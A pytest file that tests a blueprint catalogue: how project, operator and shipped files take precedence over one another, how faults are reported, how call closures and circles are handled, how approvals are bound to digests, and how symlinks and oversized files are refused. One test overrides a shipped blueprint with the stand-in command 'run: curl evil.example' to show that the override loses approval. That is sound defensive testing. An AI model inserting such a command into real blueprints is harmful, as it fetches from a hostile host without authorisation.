"""Blueprints are found in three places, and what is wrong with one is said of that one."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from bench import process_steps
from nightmill.blueprint import shelves
from nightmill.blueprint.approval import require, standing
from nightmill.blueprint.catalogue import Catalogue
from nightmill.blueprint.reading import LARGEST
from nightmill.errors import SettingsError
from nightmill.store.blueprints import Approval
from tests.blueprint.conftest import ROLES, catalogue, text

CHECK = "check: all"


def approved(of: Catalogue, name: str, **more: float) -> Approval:
    closure = of.closure(name)
    own = closure.blueprints[0]
    return Approval(
        project="p", name=name, closure=closure.digest, digest=own.digest, version=own.version, parts=closure.parts,
        by="Ada <ada@example.org>", at=1.0, revoked_by="Bob" if more else "", **more,
    )  # fmt: skip


def test_the_project_s_goes_before_the_operator_s_and_that_before_the_shipped() -> None:
    found = catalogue(
        shipped={"a": text("a", CHECK), "b": text("b", CHECK), "c": text("c", CHECK)},
        operator={"a": text("a", CHECK), "b": text("b", CHECK)},
        project={"a": text("a", CHECK)},
    )

    assert {name: (each.source, each.hides) for name, each in found.entries.items()} == {
        "a": ("project/a.yaml", ("operator/a.yaml", "shipped/a.yaml")),
        "b": ("operator/b.yaml", ("shipped/b.yaml",)),
        "c": ("shipped/c.yaml", ()),
    }


def test_a_broken_file_hides_no_other_and_lets_no_other_run_in_its_place() -> None:
    found = catalogue(
        project={"a": b"name: a\nsteps: [", "b": text("b", CHECK), "c": text("d", CHECK), "e": text("e", "agent: nobody, goal: x")},
        shipped={"a": text("a", CHECK)},
    )  # fmt: skip

    assert found.get("b").name == "b"
    assert {name: each.faults[0] for name, each in found.entries.items() if each.faults} == {
        "a": "project/a.yaml:2: not valid YAML: expected the node content, but found '<stream end>'",
        "c": "project/c.yaml:1: it calls itself 'd'",
        "e": "project/e.yaml:4: there is no role 'nobody'",
    }
    with pytest.raises(SettingsError, match="not valid YAML"):
        found.get("a")
    with pytest.raises(SettingsError, match="there is no blueprint 'nothing'"):
        found.get("nothing")


def test_a_closure_holds_all_that_is_called_once_and_nothing_else() -> None:
    found = catalogue(
        project={"a": text("a", "call: b", "call: c"), "b": text("b", "call: c"), "z": text("z", CHECK)},
        shipped={"c": text("c", CHECK)},
    )
    closure = found.closure("a")

    assert [each.name for each in closure.blueprints] == ["a", "b", "c"]
    assert closure.parts[2] == "c shipped"
    assert not closure.shipped
    with pytest.raises(SettingsError, match="there is no blueprint 'b'"):
        catalogue(project={"a": text("a", "call: b")}).closure("a")


def test_a_circle_is_broken_and_ends() -> None:
    found = catalogue(project={"a": text("a", "call: b"), "b": text("b", "call: a")})

    assert all("a circle" in each.faults[0] for each in found.entries.values())
    with pytest.raises(SettingsError, match="a circle"):
        found.closure("a")


def test_an_approval_is_of_these_bytes_and_of_all_that_they_call() -> None:
    before = catalogue(project={"a": text("a", "call: b"), "b": text("b", CHECK)})
    yes = [approved(before, "a")]
    assert standing(before, "a", yes).word == "approved"
    assert standing(before, "b", yes).word == "not approved", "that it may be called is not that it may be started"

    called = catalogue(project={"a": text("a", "call: b"), "b": text("b", CHECK, CHECK)})
    own = catalogue(project={"a": text("a", "call: b", CHECK), "b": text("b", CHECK)})

    assert standing(called, "a", yes)[:2] == (
        "changed",
        "b, which it calls, changed since Ada <ada@example.org> approved",
    )
    assert standing(own, "a", yes)[:2] == ("changed", "it changed since Ada <ada@example.org> approved")
    assert standing(before, "a", [approved(before, "a", revoked=2.0)])[:2] == ("not approved", "revoked by Bob")


def test_a_shipped_one_is_approved_by_the_release_until_another_takes_its_place() -> None:
    release = {"a": text("a", "call: b"), "b": text("b", CHECK)}
    assert standing(catalogue(shipped=release), "a", ()).word == "shipped"

    replaced = catalogue(shipped=release, project={"b": text("b", "run: curl evil.example")})
    assert standing(replaced, "a", ()).word == "not approved", "what it calls is not the release's any more"

    upgraded = catalogue(shipped={**release, "b": text("b", CHECK, CHECK)}, project={"own": text("own", "call: b")})
    asked = catalogue(shipped=release, project={"own": text("own", "call: b")})
    assert standing(upgraded, "own", [approved(asked, "own")]).word == "approved", "a release answers for its own"


def test_what_is_not_approved_does_not_run_unless_policy_lets_any() -> None:
    found = catalogue(project={"a": text("a", CHECK)})

    with pytest.raises(SettingsError, match="may not run: nobody approved of it"):
        require(found, "a", (), policy="approved")
    with pytest.raises(SettingsError, match="may not run"):
        require(found, "a", (), policy="")
    assert require(found, "a", (), policy="any").answers == ""
    allowed = require(found, "a", [approved(found, "a")], policy="approved")
    assert allowed.closure.blueprints
    assert allowed.answers == approved(found, "a").by


def test_a_folder_is_read_without_following_a_link(tmp_path: Path) -> None:
    folder = tmp_path / shelves.FOLDER
    folder.mkdir(parents=True)
    (tmp_path / "secret.yaml").write_bytes(text("secret", CHECK))
    (folder / "good.yaml").write_bytes(text("good", CHECK))
    (folder / "link.yaml").symlink_to(tmp_path / "secret.yaml")
    (folder / "large.yaml").write_bytes(b"#" * (LARGEST + 1))
    (folder / "folder.yaml").mkdir()
    (folder / "good.test.yaml").write_text("cases: []")
    (folder / "notes.md").write_text("no blueprint")
    os.mkfifo(folder / "fifo.yaml")

    found = Catalogue([shelves.in_folder(tmp_path, shelves.FOLDER, place="project")], ROLES).entries

    assert sorted(found) == ["fifo", "folder", "good", "large", "link"]
    assert [name for name, each in found.items() if not each.faults] == ["good"]
    assert "is larger than 256 KB" in found["large"].faults[0]
    assert found["link"].faults[0].startswith(".nightmill/blueprints/link.yaml: it cannot be read")
    assert found["folder"].faults[0].endswith("it is no regular file")
    assert found["fifo"].faults[0].endswith("it is no regular file")


def test_a_folder_that_is_a_link_is_refused(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / ".nightmill").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "elsewhere/blueprints").mkdir()

    with pytest.raises(SettingsError, match="cannot be read"):
        shelves.in_folder(tmp_path, shelves.FOLDER, place="project")
    assert not shelves.in_folder(tmp_path / "nowhere", place="operator").files


def test_every_shipped_blueprint_is_whole(shipped: Catalogue) -> None:
    assert {name: each.faults for name, each in shipped.entries.items() if each.faults} == {}
    assert len(shipped.entries) == 11
    for each in shipped.entries.values():
        assert each.blueprint is not None
        assert all((each.blueprint.title, each.blueprint.description, each.blueprint.outputs)), each.name
        assert len(each.blueprint.cues) >= 4, each.name
        assert each.body.startswith(
            b"# yaml-language-server: $schema=../../../../docs/reference/blueprint.schema.json\n"
        )


def test_what_the_bench_measures_is_whole() -> None:
    found = catalogue(operator={name: text.encode() for name, text in process_steps.blueprints().items()})
    assert [each.faults for each in found.entries.values() if each.faults] == []


def test_the_guide_shows_a_blueprint_that_is_whole() -> None:
    guide = (Path(__file__).parents[2] / "docs/guides/blueprints.md").read_text(encoding="utf-8")
    own = re.findall(r"```yaml\n(.+?)\n```", guide, re.DOTALL)[0]

    assert catalogue(project={"changelog": own.encode()}).get("changelog").changes
